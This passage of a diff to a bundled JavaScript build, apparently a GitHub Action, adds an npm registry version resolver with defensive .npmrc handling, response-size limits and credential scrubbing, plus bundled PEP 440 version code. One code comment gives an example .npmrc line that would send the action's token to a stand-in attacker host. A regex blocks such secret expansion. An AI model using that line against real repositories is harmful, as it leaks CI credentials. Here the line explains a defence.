+async function limitedAgent(registry, maxBytes, timeoutMs) {
+    const { Agent } = (await Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(995)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 57995, 23)));
+    const { getProxy } = (await __nccwpck_require__.e(/* import() */ 799).then(__nccwpck_require__.t.bind(__nccwpck_require__, 3799, 23)));
+    class BodyLimitedAgent extends Agent {
+        async connect(request, options) {
+            const socket = (await super.connect(request, options));
+            socket[COUNT] = 0;
+            // The HTTP parser reads the socket in flowing mode already; one more listener only counts.
+            socket.on('data', (chunk) => {
+                const seen = (socket[COUNT] ?? 0) + chunk.length;
+                socket[COUNT] = seen;
+                if (seen > maxBytes) {
+                    socket.destroy(Object.assign(new Error(`response over the limit of ${maxBytes} bytes`), {
+                        code: RESPONSE_TOO_LARGE,
+                    }));
+                }
+            });
+            return socket;
+        }
+        addRequest(request, options) {
+            // A kept-alive socket starts each response at zero.
+            request.once('socket', (s) => {
+                s[COUNT] = 0;
+            });
+            super.addRequest(request, options);
+        }
+    }
+    return new BodyLimitedAgent({ timeout: timeoutMs, proxy: getProxy(registry, {}) ?? undefined });
+}
+
+;// CONCATENATED MODULE: ./src/resolver/manifest.ts
+// The manifest an install of a registry spec would pick, with npm's own pieces for exactly this:
+// npm-registry-fetch fetches the packument (auth, proxies and headers as npm sends them) and
+// npm-pick-manifest picks the version (dist-tags, ranges, the `latest` preference). No tarball is
+// ever fetched, nothing is written to disk, no script can run.
+
+/** The abbreviated ("corgi") packument, with the full document as npm's fallback. */
+const CORGI_DOC = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
+const FULL_DOC = 'application/json';
+// Loaded on the first look-up only: runs that never ask a registry do not pay for them.
+let modules = null;
+const load = () => (modules ??= Promise.all([Promise.all(/* import() */[__nccwpck_require__.e(799), __nccwpck_require__.e(706)]).then(__nccwpck_require__.t.bind(__nccwpck_require__, 5706, 23)), __nccwpck_require__.e(/* import() */ 937).then(__nccwpck_require__.t.bind(__nccwpck_require__, 81937, 23))]).then(([f, p]) => ({
+    fetch: f.default,
+    pick: p.default,
+})));
+/**
+ * The version `spec` (`name@tag-or-range`) resolves to. Throws what npm throws: `E404`/`E401`/…
+ * with `statusCode` for HTTP errors, `ETARGET` when no version matches, `type: 'invalid-json'`.
+ */
+async function pickedVersion(spec, options) {
+    const { fetch, pick } = await load();
+    const parsed = npa_default()(spec);
+    const name = parsed.name ?? '';
+    const url = `${options.registry.replace(/\/+$/, '')}/${parsed.escapedName ?? ''}`;
+    const get = async (accept) => {
+        const res = await fetch(url, {
+            ...options.fetchOptions,
+            registry: options.registry,
+            spec: parsed,
+            headers: { accept },
+            integrity: null,
+        });
+        return res.json();
+    };
+    const key = `${name}\0${url}`;
+    let packument = options.packumentCache.get(key);
+    if (!packument) {
+        // A registry that does not serve abbreviated documents answers 404 to them: ask for the full one.
+        packument = get(CORGI_DOC).catch((e) => {
+            if (e.code === 'E404')
+                return get(FULL_DOC);
+            throw e;
+        });
+        options.packumentCache.set(key, packument);
+        // A failed request is not remembered: the caller decides whether to retry.
+        packument.catch(() => options.packumentCache.delete(key));
+    }
+    return pick(await packument, parsed.fetchSpec ?? 'latest', { defaultTag: 'latest' }).version;
+}
+
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(73024);
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(76760);
+;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
+// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
+// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
+// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
+// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
+// a pull request could use.
+
+
+const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
+/** `.npmrc` files are small; a larger one is not a config file. */
+const MAX_NPMRC_BYTES = 256 * 1024;
+/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
+const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
+/**
+ * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
+ * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
+ * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
+ * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
+ */
+const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
+const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
+/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
+function parseNpmrc(text) {
+    const entries = [];
+    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
+    for (let i = 0; i < lines.length; i++) {
+        const line = lines[i].trim();
+        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
+            continue;
+        const eq = line.indexOf('=');
+        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
+        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
+        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
+            try {
+                const parsed = JSON.parse(value);
+                if (typeof parsed === 'string')
+                    value = parsed;
+            }
+            catch {
+                value = value.slice(1, -1);
+            }
+        }
+        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
+            value = value.slice(1, -1);
+        }
+        if (key !== '')
+            entries.push({ key, value, line: i + 1 });
+    }
+    return entries;
+}
+/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
+function expand(value, env, project) {
+    let missing = null;
+    let forbidden = null;
+    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
+        if (esc.length % 2 === 1)
+            return whole.slice(1);
+        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
+            forbidden ??= name;
+            return '';
+        }
+        const v = env[name];
+        if (v === undefined) {
+            if (!optional)
+                missing ??= name;
+            return esc;
+        }
+        return esc + v;
+    });
+    if (forbidden !== null)
+        return { forbidden };
+    if (missing !== null)
+        return { missing };
+    return { value: out };
+}
+/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
+function normalizeRegistry(raw) {
+    let url;
+    try {
+        url = new URL(raw.trim());
+    }
+    catch {
+        return null;
+    }
+    if (url.protocol !== 'http:' && url.protocol !== 'https:')
+        return null;
+    url.hash = '';
+    url.search = '';
+    if (!url.pathname.endsWith('/'))
+        url.pathname += '/';
+    return url.toString();
+}
+/** A registry URL fit for messages: no credentials, query or fragment. */
+function displayRegistry(registry) {
+    try {
+        const url = new URL(registry);
+        url.username = '';
+        url.password = '';
+        url.search = '';
+        url.hash = '';
+        return url.toString();
+    }
+    catch {
+        return '(invalid registry URL)';
+    }
+}
+function readOptional(path) {
+    try {
+        const buf = (0,external_node_fs_.readFileSync)(path);
+        if (buf.length > MAX_NPMRC_BYTES)
+            return null;
+        return buf.toString('utf8');
+    }
+    catch {
+        return null;
+    }
+}
+function envValue(env, name) {
+    const lower = name.toLowerCase();
+    for (const [k, v] of Object.entries(env))
+        if (k.toLowerCase() === lower && v !== undefined)
+            return v;
+    return undefined;
+}
+/**
+ * Reads the npm configuration that decides where packages are looked up, in npm's order of
+ * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
+ * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
+ * Never reads the machine's home directory unless `env` names it.
+ */
+function loadNpmConfig(options) {
+    const { env } = options;
+    const errors = [];
+    const secrets = [];
+    const scopes = new Map();
+    const auth = new Map();
+    let registry = null;
+    const userPath = envValue(env, 'npm_config_userconfig') ??
+        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
+    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
+    // Lowest precedence first; later layers overwrite.
+    const layers = [
+        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
+        { text: projectText, project: true, file: '.npmrc' },
+    ];
+    for (const layer of layers) {
+        if (layer.text === null)
+            continue;
+        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
+            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
+            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
+            if (!isRegistry && !authKey)
+                continue;
+            const expanded = expand(raw, env, layer.project);
+            if ('forbidden' in expanded) {
+                // Only the repository's own file can be hostile; report it so the gate fails closed.
+                errors.push({
+                    file: layer.file,
+                    line,
+                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
+                });
+                continue;
+            }
+            if ('missing' in expanded)
+                continue; // npm would send the literal text; sending nothing is safer
+            const value = expanded.value;
+            if (isRegistry) {
+                const url = normalizeRegistry(value);
+                if (url === null) {
+                    if (layer.project)
+                        errors.push({
+                            file: layer.file,
+                            line,
+                            message: `${key} is not an http(s) URL; the setting is ignored`,
+                        });
+                    continue;
+                }
+                if (key === 'registry')
+                    registry = url;
+                else {
+                    const scope = key.slice(0, -':registry'.length).toLowerCase();
+                    if (SCOPE.test(scope))
+                        scopes.set(scope, url);
+                }
+            }
+            else if (authKey && value !== '') {
+                auth.set(key, value);
+                secrets.push(value);
+                if (authKey === '_auth')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+                if (authKey === '_password')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+            }
+        }
+    }
+    for (const [k, v] of Object.entries(env)) {
+        if (v === undefined)
+            continue;
+        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
+        if (m && SCOPE.test(m[1])) {
+            const url = normalizeRegistry(v);
+            if (url)
+                scopes.set(m[1].toLowerCase(), url);
+        }
+    }
+    const envRegistry = envValue(env, 'npm_config_registry');
+    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
+        registry = normalizeRegistry(envRegistry);
+    if (options.registry !== undefined) {
+        const url = normalizeRegistry(options.registry);
+        if (url === null)
+            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
+        registry = url;
+    }
+    for (const url of [registry, ...scopes.values()]) {
+        if (!url)
+            continue;
+        const u = new URL(url);
+        if (u.password)
+            secrets.push(decodeURIComponent(u.password));
+    }
+    return {
+        registry: registry ?? PUBLIC_REGISTRY,
+        scopes,
+        auth,
+        secrets: secrets.filter((s) => s.length >= 4),
+        errors,
+    };
+}
+/** The registry a package name is looked up in. */
+function registryFor(config, name) {
+    if (name.startsWith('@')) {
+        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
+        const url = config.scopes.get(scope);
+        if (url)
+            return url;
+    }
+    return config.registry;
+}
+/** Replaces every known credential in a message (defence in depth: messages are built without them). */
+function scrub(message, secrets) {
+    let out = message;
+    for (const s of secrets)
+        if (out.includes(s))
+            out = out.split(s).join('***');
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
+// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
+// would get now, by asking the registry the repository is configured for, the way npm does
+// (npm-registry-fetch for the packument, npm-pick-manifest for dist-tags, ranges and the `latest`
+// preference).
+
+
+
+
+
+
+
+const OFFLINE_NOTE = 'offline: not resolved';
+/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
+const UNREACHABLE_AFTER = 3;
+const MAX_VERSION_LENGTH = 256;
+/**
+ * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
+ * null when the component is not the resolver's (pinned, not npm, not from a registry).
+ */
+function registryRequest(c) {
+    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
+        return null;
+    let written = (c.spec ?? '').trim();
+    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
+    if (written.startsWith('npm:')) {
+        try {
+            const alias = npa_default()(written);
+            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
+                written = alias.subSpec.rawSpec;
+        }
+        catch {
+            return { reason: `spec "${c.spec}" is not a valid npm alias` };
+        }
+    }
+    const spec = written === '' ? 'latest' : written;
+    let parsed;
+    try {
+        parsed = npa_default().resolve(c.name, spec);
+    }
+    catch {
+        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
+    }
+    // Only registry specs: anything else (git, file, URL) is not a registry look-up.
+    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
+        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
+    }
+    return { name: c.name, spec };
+}
+/** Runs tasks with at most `limit` in flight. */
+function limiter(limit) {
+    let active = 0;
+    const queue = [];
+    const next = () => {
+        if (active >= limit)
+            return;
+        const start = queue.shift();
+        if (start) {
+            active++;
+            start();
+        }
+    };
+    return (task) => new Promise((resolve, reject) => {
+        queue.push(() => {
+            task()
+                .then(resolve, reject)
+                .finally(() => {
+                active--;
+                next();
+            });
+        });
+        next();
+    });
+}
+function failureOf(e) {
+    return typeof e === 'object' && e !== null ? e : {};
+}
+/** No HTTP answer at all: a timeout or a network error. */
+function isUnanswered(f, timedOut) {
+    if (timedOut || f.type === 'request-timeout')
+        return true;
+    if (f.statusCode !== undefined || f.type === 'invalid-json')
+        return false;
+    return (typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403', RESPONSE_TOO_LARGE].includes(f.code));
+}
+function isRetryable(f, timedOut) {
+    if (timedOut)
+        return true;
+    if (f.statusCode !== undefined)
+        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
+    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
+        return false;
+    if (f.type === 'invalid-json' || f.code === RESPONSE_TOO_LARGE)
+        return false;
+    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
+    return typeof f.code === 'string' && f.code.startsWith('E');
+}
+/** Why a look-up failed, in words that never carry the request's credentials. */
+function describe(f, timedOut, req, where, attempts, timeoutMs, maxBytes) {
+    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
+    if (timedOut || f.type === 'request-timeout')
+        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
+    if (f.code === 'ETARGET')
+        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
+    if (f.code === 'E404' || f.statusCode === 404)
+        return `${req.name} not found at ${where} (HTTP 404)`;
+    if (f.statusCode === 401 || f.statusCode === 403)
+        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
+    if (f.code === RESPONSE_TOO_LARGE)
+        return `${where} answered ${req.name} with more than ${maxBytes} bytes (AITG_MAX_RESPONSE_BYTES)`;
+    if (f.type === 'invalid-json')
+        return `${where} answered ${req.name} with invalid JSON`;
+    if (f.statusCode !== undefined)
+        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
+    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
+        return `network error ${f.code} reaching ${where} (${tries})`;
+    return `look-up of ${req.name} at ${where} failed (${tries})`;
+}
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+/**
+ * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver (its
+ * caches and the registry settings last across calls: an audit calls it file by file); failures
+ * never throw: the component keeps `version: null` and `versionNote` says why.
+ */
+function createNpmResolver(options) {
+    const concurrency = Math.max(1, options.concurrency ?? 8);
+    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
+    const retries = Math.max(0, options.retries ?? 2);
+    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
+    const maxResponseBytes = Math.max(1, options.maxResponseBytes ?? (0,limits/* maxResponseBytesFromEnv */.Yb)(options.env));
+    const limit = limiter(concurrency);
+    // One packument request per package per resolver (a run): specs of one package are looked up one after
+    // the other, the first fills the in-memory packument cache and the rest read it; when
+    // the first fails for a reason that is about the package, the rest share that reason.
+    const packumentCache = new Map();
+    const lookups = new Map();
+    const lastOfPackage = new Map();
+    // A registry that answers nothing (down, blackholed) would cost every package the full
+    // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
+    const unanswered = new Map();
+    // One size-bounded agent per registry (keep-alive within a run, proxies from the environment).
+    const agents = new Map();
+    const agentFor = (registry) => {
+        let a = agents.get(registry);
+        if (!a)
+            agents.set(registry, (a = limitedAgent(registry, maxResponseBytes, timeoutMs)));
+        return a;
+    };
+    // The registry settings, read once, on the first look-up; their errors are reported once.
+    let config;
+    return async (components) => {
+        const wanted = components.map(registryRequest);
+        if (!wanted.some((w) => w !== null)) {
+            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
+        }
+        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
+        let errors = [];
+        if (config === undefined) {
+            config = options.offline
+                ? null
+                : loadNpmConfig({
+                    root: options.root,
+                    env: options.env,
+                    ...(options.registry !== undefined ? { registry: options.registry } : {}),
+                    ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
+                });
+            errors = config?.errors ?? [];
+        }
+        const settings = config;
+        const lookUp = async (cfg, req) => {
+            const registry = registryFor(cfg, req.name);
+            const agent = await agentFor(registry);
+            const where = displayRegistry(registry);
+            const spec = npa_default().resolve(req.name, req.spec).toString();
+            const down = unanswered.get(registry);
+            if (down && down.inARow >= UNREACHABLE_AFTER) {
+                return {
+                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
+                    byPackage: true,
+                };
+            }
+            let attempt = 0;
+            for (;;) {
+                attempt++;
+                stats.attempts++;
+                const controller = new AbortController();
+                let timedOut = false;
+                const timer = setTimeout(() => {
+                    timedOut = true;
+                    controller.abort();
+                }, timeoutMs);
+                try {
+                    const fetchOptions = {
+                        preferOnline: true,
+                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
+                        fetchRetries: 0,
+                        timeout: timeoutMs,
+                        signal: controller.signal,
+                        userAgent: 'ai-tooling-gate',
+                        agent,
+                    };
+                    for (const [k, v] of cfg.auth)
+                        fetchOptions[k] = v;
+                    // The signal aborts the request; the race makes sure nothing waits past the timeout
+                    // even if some layer below does not honour it.
+                    const found = await Promise.race([
+                        pickedVersion(spec, { registry, packumentCache, fetchOptions }),
+                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
+                    ]);
+                    unanswered.delete(registry);
+                    const version = typeof found === 'string' ? found : '';
+                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
+                        return { reason: `${where} answered ${req.name} with an invalid version` };
+                    }
+                    return { version, registry: where };
+                }
+                catch (e) {
+                    const f = failureOf(e);
+                    if (attempt <= retries && isRetryable(f, timedOut)) {
+                        clearTimeout(timer);
+                        await sleep(retryDelayMs * 2 ** (attempt - 1));
+                        continue;
+                    }
+                    const reason = describe(f, timedOut, req, where, attempt, timeoutMs, maxResponseBytes);
+                    if (isUnanswered(f, timedOut)) {
+                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
+                        unanswered.set(registry, { inARow, last: reason });
+                    }
+                    else
+                        unanswered.delete(registry);
+                    return { reason, byPackage: f.code !== 'ETARGET' };
+                }
+                finally {
+                    clearTimeout(timer);
+                }
+            }
+        };
+        const outcomes = await Promise.all(wanted.map((w) => {
+            if (w === null)
+                return Promise.resolve(null);
+            if ('reason' in w)
+                return Promise.resolve(w);
+            if (settings === null)
+                return Promise.resolve({ reason: OFFLINE_NOTE });
+            const key = `${w.name}@${w.spec}`;
+            let p = lookups.get(key);
+            if (!p) {
+                const cfg = settings;
+                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
+                p = previous.then((before) => {
+                    if (before && 'reason' in before && before.byPackage)
+                        return before;
+                    stats.lookups++;
+                    return limit(() => lookUp(cfg, w)).catch((e) => ({
+                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
+                    }));
+                });
+                lookups.set(key, p);
+                lastOfPackage.set(w.name, p);
+            }
+            return p;
+        }));
+        const secrets = settings?.secrets ?? [];
+        const out = components.map((c, i) => {
+            const outcome = outcomes[i];
+            const w = wanted[i];
+            if (!outcome || !w)
+                return c;
+            if ('version' in outcome && !('reason' in w)) {
+                stats.resolved++;
+                return {
+                    ...c,
+                    version: outcome.version,
+                    purl: (0,purl/* purlFor */.n)(c.ecosystem, c.name, outcome.version),
+                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
+                };
+            }
+            stats.unresolved++;
+            const reason = 'reason' in outcome ? outcome.reason : '';
+            return {
+                ...c,
+                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
+            };
+        });
+        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
+    };
+}
+
+;// CONCATENATED MODULE: ./src/resolver/index.ts
+
+
+/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
+function auditResolveHook(resolver) {
+    return async (components, errors) => {
+        const result = await resolver(components);
+        if (result.errors)
+            errors.push(...result.errors);
+        return result.components;
+    };
 }
 
 
@@ -85538,45 +87244,577 @@ class RequestError extends Error {
 
 /***/ }),
 
-/***/ 99687:
+/***/ 22473:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
 // EXPORTS
 __nccwpck_require__.d(__webpack_exports__, {
-  UD: () => (/* reexport */ compare),
-  eq: () => (/* reexport */ eq),
-  gt: () => (/* reexport */ gt),
+  UD: () => (/* reexport */ operator.compare),
+  eq: () => (/* reexport */ operator.eq),
+  gt: () => (/* reexport */ operator.gt),
   bE: () => (/* reexport */ inc),
-  ib: () => (/* reexport */ satisfies),
-  rZ: () => (/* reexport */ valid),
-  Im: () => (/* reexport */ validRange)
+  ib: () => (/* reexport */ specifier/* satisfies */.ib),
+  rZ: () => (/* reexport */ lib_version/* valid */.rZ),
+  Im: () => (/* reexport */ specifier/* validRange */.Im)
 });
 
 // UNUSED EXPORTS: RANGE_PATTERN, clean, explain, filter, ge, gte, le, lt, lte, major, maxSatisfying, minSatisfying, minor, ne, neq, parse, patch, rcompare
 
-// NAMESPACE OBJECT: ./node_modules/@renovatebot/pep440/lib/operator.js
-var operator_namespaceObject = {};
-__nccwpck_require__.r(operator_namespaceObject);
-__nccwpck_require__.d(operator_namespaceObject, {
-  "!=": () => (ne),
-  "<": () => (lt),
-  "<=": () => (le),
-  "==": () => (eq),
-  "===": () => (arbitrary),
-  ">": () => (gt),
-  ">=": () => (ge),
-  compare: () => (compare),
-  eq: () => (eq),
-  ge: () => (ge),
-  gt: () => (gt),
-  le: () => (le),
-  lt: () => (lt),
-  ne: () => (ne),
-  rcompare: () => (rcompare)
-});
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/lib/version.js
+var lib_version = __nccwpck_require__(92660);
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/lib/operator.js
+var operator = __nccwpck_require__(96502);
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/lib/specifier.js
+var specifier = __nccwpck_require__(7868);
+;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/lib/semantic.js
 
-;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/lib/version.js
+
+// those notation are borrowed from semver
+
+
+function major(input) {
+  const version = explain(input);
+  if (!version) {
+    throw new TypeError('Invalid Version: ' + input);
+  }
+  return version.release[0];
+}
+
+function minor(input) {
+  const version = explain(input);
+  if (!version) {
+    throw new TypeError('Invalid Version: ' + input);
+  }
+  if (version.release.length < 2) {
+    return 0;
+  }
+  return version.release[1];
+}
+
+function patch(input) {
+  const version = explain(input);
+  if (!version) {
+    throw new TypeError('Invalid Version: ' + input);
+  }
+  if (version.release.length < 3) {
+    return 0;
+  }
+  return version.release[2];
+}
+
+function inc(input, release, preReleaseIdentifier) {
+  let identifier = preReleaseIdentifier || `a`;
+  const version = (0,lib_version/* parse */.qg)(input);
+
+  if (!version) {
+    return null;
+  }
+
+  if (
+    !['a', 'b', 'c', 'rc', 'alpha', 'beta', 'pre', 'preview'].includes(
+      identifier,
+    )
+  ) {
+    return null;
+  }
+
+  switch (release) {
+    case 'premajor':
+      {
+        const [majorVersion] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion + 1;
+      }
+      version.pre = [identifier, 0];
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'preminor':
+      {
+        const [majorVersion, minorVersion = 0] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion + 1;
+      }
+      version.pre = [identifier, 0];
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'prepatch':
+      {
+        const [majorVersion, minorVersion = 0, patchVersion = 0] =
+          version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion;
+        version.release[2] = patchVersion + 1;
+      }
+      version.pre = [identifier, 0];
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'prerelease':
+      if (version.pre === null) {
+        const [majorVersion, minorVersion = 0, patchVersion = 0] =
+          version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion;
+        version.release[2] = patchVersion + 1;
+        version.pre = [identifier, 0];
+      } else {
+        if (preReleaseIdentifier === undefined && version.pre !== null) {
+          [identifier] = version.pre;
+        }
+
+        const [letter, number] = version.pre;
+        if (letter === identifier) {
+          version.pre = [letter, number + 1];
+        } else {
+          version.pre = [identifier, 0];
+        }
+      }
+
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'major':
+      if (
+        version.release.slice(1).some((value) => value !== 0) ||
+        version.pre === null
+      ) {
+        const [majorVersion] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion + 1;
+      }
+      delete version.pre;
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'minor':
+      if (
+        version.release.slice(2).some((value) => value !== 0) ||
+        version.pre === null
+      ) {
+        const [majorVersion, minorVersion = 0] = version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion + 1;
+      }
+      delete version.pre;
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    case 'patch':
+      if (
+        version.release.slice(3).some((value) => value !== 0) ||
+        version.pre === null
+      ) {
+        const [majorVersion, minorVersion = 0, patchVersion = 0] =
+          version.release;
+        version.release.fill(0);
+        version.release[0] = majorVersion;
+        version.release[1] = minorVersion;
+        version.release[2] = patchVersion + 1;
+      }
+      delete version.pre;
+      delete version.post;
+      delete version.dev;
+      delete version.local;
+      break;
+    default:
+      return null;
+  }
+
+  return (0,lib_version/* stringify */.As)(version);
+}
+
+;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/index.js
+
+
+
+
+
+
+
+
+
+
+
+/***/ }),
+
+/***/ 96502:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+__nccwpck_require__.r(__webpack_exports__);
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   "!=": () => (/* binding */ ne),
+/* harmony export */   "<": () => (/* binding */ lt),
+/* harmony export */   "<=": () => (/* binding */ le),
+/* harmony export */   "==": () => (/* binding */ eq),
+/* harmony export */   "===": () => (/* binding */ arbitrary),
+/* harmony export */   ">": () => (/* binding */ gt),
+/* harmony export */   ">=": () => (/* binding */ ge),
+/* harmony export */   compare: () => (/* binding */ compare),
+/* harmony export */   eq: () => (/* binding */ eq),
+/* harmony export */   ge: () => (/* binding */ ge),
+/* harmony export */   gt: () => (/* binding */ gt),
+/* harmony export */   le: () => (/* binding */ le),
+/* harmony export */   lt: () => (/* binding */ lt),
+/* harmony export */   ne: () => (/* binding */ ne),
+/* harmony export */   rcompare: () => (/* binding */ rcompare)
+/* harmony export */ });
+/* harmony import */ var _version_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(92660);
+
+
+
+
+function lt(version, other) {
+  return compare(version, other) < 0;
+}
+
+function le(version, other) {
+  return compare(version, other) <= 0;
+}
+
+function eq(version, other) {
+  return compare(version, other) === 0;
+}
+
+function ne(version, other) {
+  return compare(version, other) !== 0;
+}
+
+function ge(version, other) {
+  return compare(version, other) >= 0;
+}
+
+function gt(version, other) {
+  return compare(version, other) > 0;
+}
+
+function arbitrary(version, other) {
+  return version.toLowerCase() === other.toLowerCase();
+}
+
+function compare(version, other) {
+  const parsedVersion = (0,_version_js__WEBPACK_IMPORTED_MODULE_0__/* .parse */ .qg)(version);
+  const parsedOther = (0,_version_js__WEBPACK_IMPORTED_MODULE_0__/* .parse */ .qg)(other);
+
+  const keyVersion = calculateKey(parsedVersion);
+  const keyOther = calculateKey(parsedOther);
+
+  return pyCompare(keyVersion, keyOther);
+}
+
+function rcompare(version, other) {
+  return -compare(version, other);
+}
+
+// this logic is buitin in python, but we need to port it to js
+// see https://stackoverflow.com/a/5292332/1438522
+function pyCompare(elemIn, otherIn) {
+  let elem = elemIn;
+  let other = otherIn;
+  if (elem === other) {
+    return 0;
+  }
+  if (Array.isArray(elem) !== Array.isArray(other)) {
+    elem = Array.isArray(elem) ? elem : [elem];
+    other = Array.isArray(other) ? other : [other];
+  }
+  if (Array.isArray(elem)) {
+    const len = Math.min(elem.length, other.length);
+    for (let i = 0; i < len; i += 1) {
+      const res = pyCompare(elem[i], other[i]);
